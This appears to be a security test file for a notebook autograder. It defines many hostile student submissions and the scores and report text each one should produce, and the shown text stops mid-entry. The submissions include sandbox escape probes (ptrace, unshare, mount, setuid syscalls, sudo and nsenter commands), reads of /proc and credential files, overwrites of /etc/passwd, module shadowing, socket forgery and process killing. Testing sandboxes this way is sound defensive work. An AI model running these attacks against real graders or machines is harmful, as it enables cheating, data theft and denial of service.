"""The attacks: what each submission does, the score that its honest part deserves, and what the report must say.

Task 4 (``abc``, ``top20_share``, ``gini``) is where most attacks replace the answers by rubbish and cheat: nothing later
builds on it. ``PWNED`` in an output, or anywhere else, is a break-out that worked; ``WORLD`` gives the attacker more
than any student knows: real paths and ports of the grader's machine.
"""

import json
import os
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.security.scene import FULL, NOTEBOOK, Edit, Scene, cell_of, notebook, own

NOTHING = dict.fromkeys(FULL, 0.0)
LATER = dict.fromkeys(("a04-4", "a04-5", "a04-6", "a04-8"), 0.0)
"""Lost if the room ends in task 4: what was handed over before counts."""


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        threat, name, does: which threat of the design, in few words, in one sentence.
        four: code in place of the answer to task 4, appended to rubbish; None leaves the right answer.
        answers, before, after, edit: as of :func:`tests.security.scene.notebook`.
        files: lays the submission instead, in its folder.
        lost: what is not earned: task → points that remain.
        says: words of the report (findings, reasons to look, notes, what is told).
    """

    threat: str
    name: str
    does: str
    four: str | None = None
    answers: Mapping[str, str] = field(default_factory=dict)
    before: str = ""
    after: str = ""
    edit: Edit | None = None
    files: Callable[[Path, Scene], None] | None = None
    lost: Mapping[str, float] = field(default_factory=dict)
    says: tuple[str, ...] = ()

    @property
    def student(self) -> str:
        return f"{self.threat.lower()}-{zlib.crc32(self.name.encode()):08x}"

    def expected(self) -> dict[str, float]:
        """Points by task."""
        lost = dict(self.lost) or ({"a04-4": 0.0} if self.four is not None else {})
        return {**FULL, **lost}

    def lay(self, scene: Scene) -> None:
        """Hand it in."""
        if self.files is not None:
            folder = scene.folder(self.student)
            folder.parent.mkdir(parents=True)
            self.files(folder, scene)
            return
        answers = dict(self.answers) | ({"a04-4": RUBBISH + self.four} if self.four is not None else {})
        document = notebook(scene.source, answers, self.before, self.after, self.edit)
        if "WORLD" in json.dumps(document):
            document["cells"].insert(0, own(f"WORLD = {scene.world!r}"))
        scene.hand_in(self.student, document)


RUBBISH = """
abc = pd.Series("A", index=rfm_table.index)
top20_share, gini = 0.123, 0.987
"""
# Rubbish that has the right form, so that nothing but the content of the answers decides.
_SEARCH = """
import os, re
def look(data):
    for hit in set(re.findall(rb"CANARY-[0-9a-f]{12}|7319425[0-9]|36597[1]2", data)):
        print("PWNED", hit)
def read(path):
    try:
        with open(path, "rb") as stream:
            look(stream.read(4_000_000))
            return True
    except (OSError, ValueError):
        return False
"""
_LIBC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def won(name, result):
    print("PWNED" if result >= 0 else "refused", name)
"""
_CHANNEL = """
import os, stat, struct, msgspec
ends = []
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            ends.append(number)
    except OSError:
        pass
def frame(value):
    data = msgspec.msgpack.encode(value)
    return struct.pack("!I", len(data)) + data
def say(data):
    for end in ends:
        try:
            while data:
                data = data[os.write(end, data):]
        except OSError:
            pass
"""
_BETRAYED = "改动了评分通道"
_DIED = "自己退出了"
_TOO_LONG = "运行超过"
_CHANGED = "被改动过"
_UNREADABLE = "读不出来，没有运行"

SHOWN = ("T4", "T6", "T8", "T12", "T15")
"""Threats whose pages of feedback are made and searched: what others show is searched in the record."""
ATTACKS: list[Attack] = []


def attack(threat: str, name: str, does: str, four: str | None = None, **more: Any) -> None:
    # In two parts: a traceback that shows the line of a print says nothing of a break-out.
    split = four and four.replace('print("PWNED', 'print("PWN" "ED')
    ATTACKS.append(Attack(threat, name, does, split, **more))


# ------------------------------------------------------------------------------------------------------ T1: liars

attack("T1", "object equal to everything", "answers 4 are objects that equal, compare and convert to anything", """
class Yes:
    def yes(self, *args, **kwargs): return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = yes
    def me(self, *args, **kwargs): return self
    __sub__ = __rsub__ = __add__ = __abs__ = __getitem__ = __call__ = __getattr__ = me
    def __float__(self): return 0.45
    def __len__(self): return len(rfm_table)
    def __array__(self, *args, **kwargs): return np.full(len(rfm_table), 1.0)
    def __hash__(self): return 0
abc = top20_share = gini = Yes()
""", says=("应当是 Series，现在是 Yes",))  # fmt: skip
attack("T1", "float whose difference is zero", "answers 4 are subclasses of float with lying arithmetic", """
class Near(float):
    def zero(self, *args): return 0.0
    __sub__ = __rsub__ = __abs__ = zero
    def yes(self, *args): return True
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = yes
    __hash__ = float.__hash__
    def __float__(self): return self
top20_share, gini = Near(0.123), Near(0.987)
""")  # fmt: skip
attack("T1", "frames and series that compare true", "answers 3 are subclasses of DataFrame and Series that lie", answers={
    "a04-3": """
class Liar(pd.Series):
    @property
    def _constructor(self): return Liar
    def __eq__(self, other): return pd.Series(True, index=self.index)
    def equals(self, other): return True
    def reindex(self, *args, **kwargs): return self
    def to_numpy(self, *args, **kwargs): return self
class LiarFrame(pd.DataFrame):
    @property
    def _constructor_sliced(self): return Liar
    def __eq__(self, other): return pd.DataFrame(True, index=self.index, columns=self.columns)
    def equals(self, other): return True
scores = LiarFrame(1, index=rfm_table.index, columns=["r", "f", "m"])
segments = Liar("重要价值客户", index=rfm_table.index)
""",
}, lost={"a04-3": 0.0})  # fmt: skip
attack("T1", "metaclass and class property", "answers 5 claim to be a Series and a frame by __class__ and metaclass", answers={
    "a04-5": """
class Meta(type):
    def __instancecheck__(cls, instance): return True
    def __eq__(cls, other): return True
    __hash__ = type.__hash__
    __name__ = "Series"
class Fake(metaclass=Meta):
    __class__ = property(lambda self: pd.Series)
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *args, **kwargs: True
tier, tier_table = Fake(), Fake()
""",
}, lost={"a04-5": 0.0}, says=("tier",))  # fmt: skip

# ------------------------------------------------------------------------------------------------------ T2: patches

attack("T2", "patched pandas numpy checks", "every comparison of NumPy, pandas and the grader's helpers returns true", """
from autograder import checks
yes = lambda *args, **kwargs: True
np.isclose = pd.Series.equals = pd.DataFrame.equals = yes
checks.same = checks._same = checks._same_series = yes
checks.frame = checks.series = checks.number = lambda *args, **kwargs: None
checks.Score.compare = lambda self, points, *args, **kwargs: self.parts.append((points, points, ""))
checks.Score.part = lambda self, points, *args, **kwargs: self.parts.append((points, points, ""))
checks.Score.total = property(lambda self: self.points)
""")  # fmt: skip
attack("T2", "patched builtins", "abs, isinstance, float, set and len are replaced", """
import builtins
import autograder.checks, autograder.judge
class One(float):
    def __new__(cls, *args): return float.__new__(cls, 0.5)
for module in (autograder.checks, autograder.judge):
    module.abs = module.set = lambda *args: 0
    module.isinstance = lambda *args: True
    module.float = One
autograder.judge._points = lambda value, offered: (offered, "")
autograder.judge._judge = lambda test, bench: autograder.judge.Verdict(test.points, "", {}, [], "", "")
""")  # fmt: skip
attack("T2", "patched encoder", "autograder.wire.encode and msgspec give forged bytes for every answer", """
from autograder import wire
wire.encode = lambda value, keep=None: b"\\x92\\xc4\\x01\\xc3\\xc4\\x00"
""", lost=LATER)  # fmt: skip

# ------------------------------------------------------------------------------------------- T3: IPython transformers

attack("T3", "ast transformer drops asserts", "an AST transformer removes asserts and makes comparisons true", """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Compare(self, node): return ast.copy_location(ast.Constant(True), node)
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Drop())
""", lost={"a04-4": 0.0, "a04-5": 0.0, "a04-6": 4.0})  # fmt: skip
attack("T3", "input transformer rewrites tests", "an input transformer turns each line of a check into the score", """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["score = 3\\n", "score\\n"] if any("checks." in line for line in lines) else lines)
""")  # fmt: skip

# ------------------------------------------------------------------------------------------------ T4: forged results

attack("T4", "display hook shows the points", "displayhook, display and stdout all say 25", """
import sys
from IPython.display import display, publish_display_data
sys.displayhook = lambda value: print(25)
shell = get_ipython()
shell.displayhook.__class__.__call__ = lambda self, value=None: publish_display_data({"text/plain": "25"})
display(25); publish_display_data({"text/plain": "25.0"}); print("25")
""")  # fmt: skip
attack("T4", "execute result forged on the channel", "writes an execute_result of 25 and a Verdict to the channel", _CHANNEL + """
say(frame({"type": "Shown", "output": {"output_type": "execute_result", "data": {"text/plain": "25"}, "execution_count": 1}}))
say(frame({"type": "Verdict", "score": 3.0, "told": "", "answers": {}, "parts": [], "stopped": "", "fault": ""}))
import time; time.sleep(60)
""", lost=LATER, says=(_BETRAYED,))  # fmt: skip
attack("T4", "answers sent ahead", "says that the cell has ended and sends answers before it is asked", _CHANNEL + """
say(frame({"type": "Ran", "error": ""}))
say(frame({"type": "Answers", "sealed": {"gini": b"\\x00", "abc": b"\\x00" * 1000}, "calls": False}))
say(frame({"type": "Verdict", "score": 3.0, "told": "", "answers": {}, "parts": [], "stopped": "", "fault": ""}))
""", lost=LATER, says=(_BETRAYED,))  # fmt: skip
attack("T4", "giant frame", "announces a message of four gigabytes", _CHANNEL + """
say(b"\\xff\\xff\\xff\\xff" + b"x" * 100)
import time; time.sleep(60)
""", lost=LATER, says=(_BETRAYED,))  # fmt: skip
attack("T4", "half frame", "sends half a message, so that the rest of the talk is out of step", _CHANNEL + """
say(b"\\x00\\x00\\x00\\x40\\x82\\xa4type")
""", lost=LATER, says=("之后的单元格没有运行",))  # fmt: skip
attack("T4", "malformed message", "sends msgpack nested a million deep and text that is no UTF-8", _CHANNEL + """
say(struct.pack("!I", 1_000_000) + b"\\x91" * 1_000_000)
say(struct.pack("!I", 8) + b"\\x82\\xa4type\\xa2\\xff\\xfe")
import time; time.sleep(60)
""", lost=LATER, says=(_BETRAYED,))  # fmt: skip
attack("T4", "message that swells in memory", "sends 36 MB of empty lists, two gigabytes once decoded", _CHANNEL + """
body = b"\\x82\\xa4type\\xa5Shown\\xa6output\\x81\\xa4data\\xdd" + struct.pack("!I", 36_000_000) + b"\\x90" * 36_000_000
say(struct.pack("!I", len(body)) + body)
import time; time.sleep(60)
""", lost=LATER, says=(_BETRAYED,))  # fmt: skip

# --------------------------------------------------------------------------------------------- T5: changed notebooks


def _tag_tests(document: dict[str, Any]) -> None:
    for cell in document["cells"]:
        cell["metadata"] |= {"tags": ["skip-execution", "raises-exception", "instructor"], "editable": False}
        known = cell["metadata"].get("nbgrader", {})
        if known.get("grade"):
            known |= {"points": 100, "locked": False, "checksum": "0" * 32, "task": True}


def _shuffle(document: dict[str, Any]) -> None:
    cells = document["cells"]
    test = cell_of(document, "a04-4-test")
    cells.remove(test)
    cells.append({**cell_of(document, "a04-5-test"), "id": "copy", "source": "4"})
    cells.insert(2, cells.pop(cells.index(cell_of(document, "a04-6-test"))))


def _overwrite_tests(document: dict[str, Any]) -> None:
    for cell in document["cells"]:
        if cell["id"].endswith("-test"):
            cell["source"] = (
                f"print({cell['metadata']['nbgrader']['points']})\n{cell['metadata']['nbgrader']['points']}"
            )


def _test_becomes_solution(document: dict[str, Any]) -> None:
    test, answer = cell_of(document, "a04-4-test"), cell_of(document, "a04-4-solution")
    test["metadata"]["nbgrader"] |= {"solution": True, "grade": False, "locked": False}
    answer["cell_type"] = "markdown"
    test["source"] = "gini = checks.Score(3)\n3"


def _swap_ids(document: dict[str, Any]) -> None:
    answer, other = cell_of(document, "a04-4-solution"), cell_of(document, "a04-5-solution")
    for cell, task in ((answer, "a04-5"), (other, "a04-4")):
        cell["metadata"]["nbgrader"]["grade_id"] = f"{task}-solution"


def _other_kernel(document: dict[str, Any]) -> None:
    document["metadata"] = {
        "kernelspec": {"name": "bash", "display_name": "bash", "language": "bash", "argv": ["touch", "/tmp/PWNED"]},
        "language_info": {"name": "bash"},
        "celltoolbar": "Create Assignment",
    }


def _given_for_friend(document: dict[str, Any]) -> None:
    cell_of(document, "a04-data")["source"] = (
        "import os\nos.environ['CRM_STUDENT_ID'] = 'friend'\n" + cell_of(document, "a04-data")["source"]
    )


attack("T5", "skip-execution tags and points", "all cells are tagged to be skipped, tests offer 100 points", "",
       edit=_tag_tests)  # fmt: skip
attack("T5", "deleted doubled and moved tests", "test 4 is gone, test 5 is there twice, test 6 stands first", "",
       edit=_shuffle, says=("a04-4-test 被删掉了", "a04-5-test 出现了 2 次", "被挪动过"))  # fmt: skip
attack("T5", "tests overwritten with their points", "every test prints and returns its points", "",
       edit=_overwrite_tests, says=(f"a04-4-test {_CHANGED}",))  # fmt: skip
attack("T5", "test turned into a solution", "test 4 becomes a solution cell and solution 4 becomes text", "",
       edit=_test_becomes_solution, says=(_CHANGED, "类型从 code 改成了 markdown"))  # fmt: skip
attack("T5", "ids swapped", "the answers to tasks 4 and 5 trade their ids: abc comes after its test", edit=_swap_ids,
       lost={"a04-4": 0.0}, says=("被挪动过",))  # fmt: skip
attack("T5", "another kernel", "the notebook asks for a bash kernel with a command of its own", "", edit=_other_kernel)
attack("T5", "given cell draws a friend's data", "the given cell sets the id of a friend before it draws",
       edit=_given_for_friend, says=(f"a04-data {_CHANGED}",))  # fmt: skip

# ------------------------------------------------------------------------------------------------ T6, T7: files

attack("T6", "reads every file", "walks the whole tree and opens each path of sources, gradebook, records, homes", _SEARCH + """
import glob
for place in WORLD["files"]:
    for prefix in ("", "/proc/1/root", "/proc/self/root", "/host-proc/1/root", "/host-proc/self/root", "/tmp/.."):
        if read(prefix + place):
            print("PWNED", prefix + place)
for place in WORLD["folders"]:
    for found in glob.glob(place + "/*"):
        if os.path.basename(found) not in ("crmlab", "autograder", "datasets", ".venv"):
            print("PWNED", found)
skipped = ("/usr", "/proc", "/sys", "/lib")
for top, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if not os.path.join(top, f).startswith(skipped) and f not in ("site-packages", "lib", "datasets")]
    for name in names:
        read(os.path.join(top, name))
""")  # fmt: skip
attack("T6", "reads processes", "environment, memory, root and open files of every process under /proc and /host-proc", _SEARCH + """
import glob
for proc in ("/proc", "/host-proc"):
    for place in glob.glob(proc + "/[0-9]*"):
        for name in ("environ", "cmdline", "maps", "mountinfo", "stack", "auxv"):
            read(f"{place}/{name}")
        for link in glob.glob(place + "/fd/*") + glob.glob(place + "/task/*/fd/*"):
            try:
                os.readlink(link).startswith("/") and read(link)
            except OSError:
                pass
    for name in ("kcore", "kmsg", "kallsyms", "vmcore", "sched_debug", "timer_list", "net/unix", "keys"):
        read(f"{proc}/{name}")
if len(glob.glob("/proc/[0-9]*")) > 8 or glob.glob("/host-proc/*"):
    print("PWNED processes of others", glob.glob("/proc/[0-9]*"), glob.glob("/host-proc/*"))
look(repr(dict(os.environ)).encode())
""")  # fmt: skip
attack("T6", "searches its own memory", "scans /proc/self/mem, all objects and all frames for hidden tests", _SEARCH + """
import gc, sys
parts = {}
for line in open("/proc/self/maps"):
    area, rights = line.split()[:2]
    start, end = (int(x, 16) for x in area.split("-"))
    if rights.startswith("rw") and end - start < 40_000_000:
        try:
            with open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(start)
                data = memory.read(end - start)
            hits = re.findall(rb"WITNESS = .CANAR[Y]|score = checks.Score\\(3\\).mine, wanted", data, re.S)
            if hits:
                print("PWNED", hits[0])
            for hit in set(re.findall(rb"CANARY-[0-9a-f]{12}", data)):
                print("PWNED", hit)
        except (OSError, ValueError, OverflowError):
            pass
frame = sys._getframe()
while frame:
    look(repr(frame.f_locals)[:100_000].encode())
    frame = frame.f_back
""")  # fmt: skip
attack("T6", "imports the grader", "asks the course's own modules for sources, classroom and gradebook", _SEARCH + """
import sys
sys.path.insert(0, WORLD["root"])
for attempt in (
    "from course.grading import instructors_copy; print('PWNED', instructors_copy('a04-segmentation').cells[5].source)",
    "from course.hub.classroom import Classroom; print('PWNED', Classroom.here().db_url)",
    "from autograder.store import Store; import pathlib; print('PWNED', Store(pathlib.Path('/tmp')).history('a', 'b')[0])",
    "import sqlite3, glob; [print('PWNED', sqlite3.connect(f).execute('select * from student').fetchall()) for f in glob.glob(WORLD['folders'][2] + '/*.db')]",
    "import autograder.judge as j; print('PWNED', j._bench)",
):
    try:
        exec(attempt)
    except BaseException as error:
        print(type(error).__name__)
""")  # fmt: skip
attack("T6", "system calls of break-outs", "ptrace, process_vm_readv, unshare, mount, pidfd_getfd, io_uring, bpf, keyctl …", _LIBC + """
buffer = ctypes.create_string_buffer(4096)
calls = {
    "ptrace": (101, 0x4206, 1, 0, 0), "process_vm_readv": (310, 1, buffer, 1, buffer, 1, 0), "unshare": (272, 0x10020000),
    "setns": (308, 3, 0), "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "umount": (166, b"/tmp", 2),
    "umount host-proc": (166, b"/host-proc", 2), "pivot_root": (155, b"/tmp", b"/tmp"), "chroot": (161, b"/tmp"),
    "pidfd_getfd": (438, 3, 1, 0), "io_uring_setup": (425, 8, buffer), "bpf": (321, 0, buffer, 64),
    "userfaultfd": (323, 0), "keyctl": (250, 0, -3, 1), "add_key": (248, b"user", b"a", b"b", 1, -3),
    "perf_event_open": (298, buffer, 0, -1, -1, 0), "open_by_handle_at": (304, 3, buffer, 0),
    "name_to_handle_at": (303, -100, b"/", buffer, buffer, 0), "fsopen": (430, b"tmpfs", 0), "open_tree": (428, -100, b"/", 1),
    "kexec_load": (246, 0, 0, 0, 0), "init_module": (175, buffer, 10, b""), "syslog": (103, 2, buffer, 100),
    "clone3": (435, buffer, 88), "clone newuser": (56, 0x10000011, 0, 0, 0, 0), "setuid 0": (105, 0), "setgid 0": (106, 0),
    "sethostname": (170, b"x", 1), "fanotify": (300, 0, 0), "x32 getpid": (0x40000000 + 39,), "swapon": (167, b"/tmp/x", 0),
    "prctl off seccomp": (157, 22, 0, 0), "memfd_secret": (447, 0), "kill the doorkeeper": (62, os.getppid() or 99999, 9),
}
for name, (number, *arguments) in calls.items():
    won(name, libc.syscall(number, *arguments))
import subprocess
for command in ("unshare -Ur id", "nsenter -t 1 -a id", "mount -t proc proc /proc", "su -c id", "sudo -n id", "bwrap --dev-bind / / id"):
    done = subprocess.run(command, shell=True, capture_output=True, text=True)
    print("PWNED" if "uid=0" in done.stdout else "refused", command)
print("PWNED root" if os.getuid() == 0 else "no root", [l for l in open("/proc/self/status") if l.startswith("Cap") and int(l.split()[1], 16) and not l.startswith("CapBnd")] and "PWNED capabilities")
""")  # fmt: skip
attack("T7", "writes everywhere", "opens, renames, unlinks, links and chmods gradebook, sources, peers, library, venv", """
import os, sys, pathlib
import crmlab, pandas
targets = [*WORLD["files"], crmlab.__file__, pandas.__file__, sys.executable, "/etc/passwd", "/usr/bin/env", "/bin/sh"]
def tries(target):
    yield "append", lambda: open(target, "ab").write(b"PWNED")
    yield "rename", lambda: os.rename(target, target + ".bak")
    yield "unlink", lambda: os.unlink(target)
    yield "chmod", lambda: os.chmod(target, 0o777)
    yield "link", lambda: os.link(target, "/tmp/work/link")
    yield "utime", lambda: os.utime(target)
for target in targets:
    for what, act in tries(target):
        try:
            act()
            print("PWNED", what, target)
        except OSError:
            pass
places = [*WORLD["folders"], "/", "/usr/lib", "/var/tmp", "/dev", "/host-proc", "/root", "/home", "/etc", "/proc", "/sys",
          os.path.dirname(crmlab.__file__), os.path.dirname(pandas.__file__), sys.prefix + "/lib/python3.11/site-packages"]
for place in places:
    try:
        pathlib.Path(place, WORLD["token"]).write_text("x")
        print("PWNED", place)
    except OSError:
        pass
""")  # fmt: skip
attack(
    "T7",
    "shadows the grader's modules",
    "writes json.py, checks.py, autograder/, sitecustomize.py where Python may look",
    """
import os, pathlib, site, sys
evil = "from pathlib import Path\\nPath('/tmp/PWNED').touch()\\ndef __getattr__(name): return lambda *a, **k: 3\\n"
for folder in (".", "autograder", "pandas", "crmlab", os.path.expanduser("~"), site.getusersitepackages(), "/tmp"):
    try:
        os.makedirs(folder, exist_ok=True)
    except OSError:
        continue
    for name in ("json.py", "checks.py", "__init__.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "crm.pth", "data.py"):
        try:
            pathlib.Path(folder, name).write_text(evil)
        except OSError:
            pass
os.environ["PYTHONPATH"] = os.environ["PYTHONSTARTUP"] = "/tmp/work"
for name in ("autograder", "autograder.checks", "checks", "crmlab.data", "pandas"):
    sys.modules.pop(name, None)
from autograder import checks
""",
    lost={"a04-4": 0.0, "a04-5": 0.0, "a04-6": 0.0},
)  # fmt: skip  (its own pandas is broken from here on)

# ------------------------------------------------------------------------------------------- T8: hooks that tell

attack("T8", "hooks print what runs", "pre- and post-run hooks, tracers and history print every cell and local name", _SEARCH + """
import sys, threading, gc
shell = get_ipython()
def tell(*args):
    look(repr([getattr(a, "raw_cell", a) for a in args] + shell.user_ns.get("In", [])).encode())
    for name, value in list(shell.user_ns.items()):
        if name in ("right", "wanted", "score", "WITNESS", "reference", "mine"):
            print("PWNED", name, value)
for event in ("pre_run_cell", "post_run_cell", "pre_execute", "post_execute"):
    shell.events.register(event, tell)
def trace(frame, event, arg):
    if frame.f_code.co_filename == "<test>":
        print("PWNED", frame.f_code)
sys.setprofile(trace); threading.setprofile(trace)
""")  # fmt: skip
attack("T8", "function raises its argument", "the answer to task 8 puts the hidden argument into an exception", answers={
    "a04-8": """
def voucher(paid):
    if paid > 1000:
        raise ValueError(f"hidden: {paid!r} {paid * 0.05}")
    return round(paid * 0.05, 2)
""",
}, lost={"a04-8": 0.0}, says=("函数报错",))  # fmt: skip
attack("T8", "exception named after its argument", "the answer to task 8 raises a class whose name is the hidden argument", answers={
    "a04-8": """
def voucher(paid):
    if paid > 1000:
        raise type("A" + str(int(paid)), (Exception,), {})()
    return round(paid * 0.05, 2)
""",
}, lost={"a04-8": 0.0}, says=("函数报错",))  # fmt: skip
attack("T8", "function hands its argument on", "the answer to task 8 leaves its argument on disk, in shared memory, on sockets", answers={
    "a04-8": _CHANNEL + """
import mmap, threading, sys
shared = mmap.mmap(-1, 4096)
def voucher(paid):
    shared[:8] = str(int(paid)).encode()[:8].ljust(8)
    for place in ("/tmp/work/told", "/dev/shm/told", "/tmp/home/told"):
        open(place, "a").write(str(paid))
    print("PWNED", paid); print("PWNED", paid, file=sys.stderr)
    say(frame({"type": "Shown", "output": {"output_type": "stream", "name": "stdout", "text": f"PWNED {paid}"}}))
    say(frame({"type": "Verdict", "score": 2.0, "told": str(paid), "answers": {}, "parts": [], "stopped": "", "fault": ""}))
    return 1.0
def watch():
    import time, os
    while True:
        time.sleep(0.02)
        if shared[:8].strip(b"\\0"):
            print("PWNED", shared[:8]); say(frame({"type": "Ran", "error": shared[:8].decode()}))
threading.Thread(target=watch, daemon=True).start()
""",
}, after="import os, time; time.sleep(1)\nfor f in ('/tmp/work/told', '/dev/shm/told'):\n    if os.path.exists(f): print('PWNED', open(f).read())",
   lost={"a04-8": 0.0})  # fmt: skip

# ------------------------------------------------------------------------------------------------------- T9: network

attack("T9", "internet sockets", "TCP and UDP to loopback and outside, IPv6, raw, netlink, packet, vsock, DNS", """
import socket, urllib.request
def attempt(name, act):
    try:
        act()
        print("PWNED", name)
    except OSError as error:
        print("refused", name)
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", WORLD["tcp"]), 1))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", WORLD["udp"])))
attempt("outside", lambda: socket.create_connection(("192.0.2.1", 80), 1))
attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
attempt("http", lambda: urllib.request.urlopen("http://192.0.2.1/", timeout=1))
for name, family, kind in (("v6", socket.AF_INET6, socket.SOCK_STREAM), ("raw", socket.AF_INET, socket.SOCK_RAW),
                           ("netlink", socket.AF_NETLINK, socket.SOCK_RAW), ("packet", socket.AF_PACKET, socket.SOCK_RAW),
                           ("vsock", 40, socket.SOCK_STREAM), ("alg", 38, socket.SOCK_SEQPACKET)):
    attempt(name, lambda: socket.socket(family, kind))
""")  # fmt: skip
attack("T9", "local sockets of the machine", "connects to Unix sockets outside, by path and by abstract name", """
import socket, os, glob
names = [WORLD["local"], "\\0" + WORLD["abstract"], "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/docker.sock",
         "/proc/1/root" + WORLD["local"], "/host-proc/1/root" + WORLD["local"], "/run/systemd/private", *glob.glob("/run/**", recursive=True)]
for name in names:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            socket.socket(socket.AF_UNIX, kind).connect(name)
            print("PWNED", name)
        except OSError:
            pass
""")  # fmt: skip

# ------------------------------------------------------------------------------------------ T10: ends and no ends

attack("T10", "endless loop", "loops for ever; interrupted, the rest goes on", "while True: pass", says=(_TOO_LONG,))
attack("T10", "loop that ignores interrupts", "loops for ever and catches KeyboardInterrupt", """
def loop():
    while True:
        try:
            while True: sum(range(1000))
        except BaseException: continue
loop()
""", lost=LATER, says=(_TOO_LONG, "没有运行"))  # fmt: skip
attack("T10", "loop that ignores the first interrupt", "loops, is interrupted, and loops again", """
for last in (False, True):
    try:
        while True: pass
    except BaseException:
        if last: raise
""", says=(_TOO_LONG,))  # fmt: skip
attack("T10", "signals ignored", "ignores every signal and sleeps", """
import signal, time
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
time.sleep(10_000)
""", lost=LATER, says=(_TOO_LONG,))  # fmt: skip
attack("T10", "os exit", "ends the process with code 0", "import os; os._exit(0)", lost=LATER, says=(_DIED,))
attack("T10", "system exit", "raises SystemExit, GeneratorExit and KeyboardInterrupt", "raise SystemExit(0)",
       before="raise KeyboardInterrupt", after="import sys; sys.exit('25')")  # fmt: skip
attack("T10", "abort", "aborts", "import os; os.abort()", lost=LATER, says=(_DIED,))
attack("T10", "segmentation fault", "reads address 0", "import ctypes; ctypes.string_at(0)", lost=LATER, says=(_DIED,))
attack("T10", "stack overflow", "recursion without limit, in Python and in C", """
import sys, ctypes
sys.setrecursionlimit(10**9)
def down(n): return repr([down(n + 1)])
down(0)
""", lost=LATER, says=("之后的单元格没有运行",))  # fmt: skip
attack("T10", "kills everything", "kill -9 and stop of every process it can name, itself included", """
import os, signal
for number in (signal.SIGSTOP, signal.SIGKILL):
    for pid in (-1, 0, 1, 2, 3, os.getppid(), os.getpid(), *range(4, 3000)):
        try:
            if pid != 0 or number == signal.SIGSTOP: os.kill(pid, number)
        except OSError: pass
os.killpg(0, signal.SIGKILL)
os._exit(1)
""", lost=LATER, says=(_DIED,))  # fmt: skip
attack("T10", "closes all descriptors", "closes every file descriptor and goes on", "import os; os.closerange(0, 1000)",
       lost=LATER, says=(_DIED,))  # fmt: skip
attack("T10", "sleeps through every cell", "each of many cells sleeps just under its limit", "",
       edit=lambda document: document["cells"].extend(own("import time; time.sleep(6.5)") for _ in range(10)),
       lost={"a04-4": 0.0, "a04-8": 0.0}, says=("整份作业运行超过",))  # fmt: skip
attack("T10", "atexit and threads that hang", "exit handlers, finalizers and non-daemon threads that never end", """
import atexit, threading, time, weakref
class Stay:
    def __del__(self):
        while True: time.sleep(1)
kept = Stay()
atexit.register(lambda: time.sleep(10_000))
for _ in range(5):
    threading.Thread(target=time.sleep, args=(10_000,)).start()
""")  # fmt: skip
attack("T10", "repr that never ends", "an object whose repr loops, one whose repr holds itself, one that raises", """
class Loop:
    def __repr__(self):
        while True: pass
class Inside:
    def __repr__(self): return repr([self])
class Broken:
    def __repr__(self): raise SystemExit
    __str__ = __repr__
for kind in (Inside, Broken):
    try: display(kind())
    except (Exception, SystemExit): pass
Loop()
""", says=(_TOO_LONG,))  # fmt: skip
attack("T10", "answers that never end", "iterators without end, a length of 2**60, items that make more items", """
import itertools, collections
class Long(list):
    def __len__(self): return 2**60
    def __iter__(self): return itertools.count()
class More(dict):
    def items(self):
        while True: yield object(), More()
    keys = values = __iter__ = items
abc, top20_share, gini = Long(), More(), itertools.count()
cycle = []; cycle.append(cycle)
top20_share["x"] = cycle
""")  # fmt: skip
attack("T10", "answer property that never ends", "a metaclass whose name and mro never end", """
class Meta(type):
    @property
    def __name__(cls):
        while True: pass
    def mro(cls): return type.mro(cls)
    def __getattribute__(cls, name):
        while True: pass
    def __hash__(cls):
        while True: pass
class Never(metaclass=Meta):
    def __getattribute__(self, name):
        while True: pass
gini = Never()
""")  # fmt: skip
attack("T10", "function that hangs", "the answer to task 8 never returns", answers={
    "a04-8": "def voucher(paid):\n    while True: pass",
}, lost={"a04-8": 0.0}, says=("没有在规定的时间内返回",))  # fmt: skip
attack("T10", "function that forks and exits", "the answer to task 8 forks, exits, closes its line, returns functions", answers={
    "a04-8": """
import os
def voucher(paid):
    if paid > 1000:
        for _ in range(3): os.fork()
        os.closerange(0, 100)
        os._exit(0)
    return voucher
""",
}, lost={"a04-8": 0.0}, says=("voucher",))  # fmt: skip
attack("T10", "function that returns a flood", "the answer to task 8 returns and sends far too much", answers={
    "a04-8": _CHANNEL + """
def voucher(paid):
    say(struct.pack("!I", 4_000_000_000) + b"x" * 10_000_000)
    return [float(paid)] * 50_000_000
""",
}, lost={"a04-8": 0.0}, says=("没有在规定的时间内返回",))  # fmt: skip
attack("T10", "answers that hang the tests", "answers to three tasks are forged dictionaries of 60,000 keys that all collide",
       answers={"a04-5": """
import sys, msgspec
from autograder import wire
pack, unpack = msgspec.msgpack.encode, msgspec.msgpack.decode
body, *rest = unpack(wire.encode({10 * sys.hash_info.modulus: 0}))
tag, (key,), (value,) = unpack(body)
keys = [[key[0], str(number * sys.hash_info.modulus)] for number in range(10, 60_010)]
bomb = pack([pack([tag, keys, [0] * len(keys)]), *rest])
wire.encode = lambda value, keep=None: bomb
"""}, lost={"a04-5": 0.0, "a04-6": 0.0, "a04-8": 0.0}, says=("检查这个答案用了超过",))  # fmt: skip

# ---------------------------------------------------------------------------------------------------- T11: bombs

attack("T11", "array bomb", "allocates arrays until it is stopped", """
hoard = []
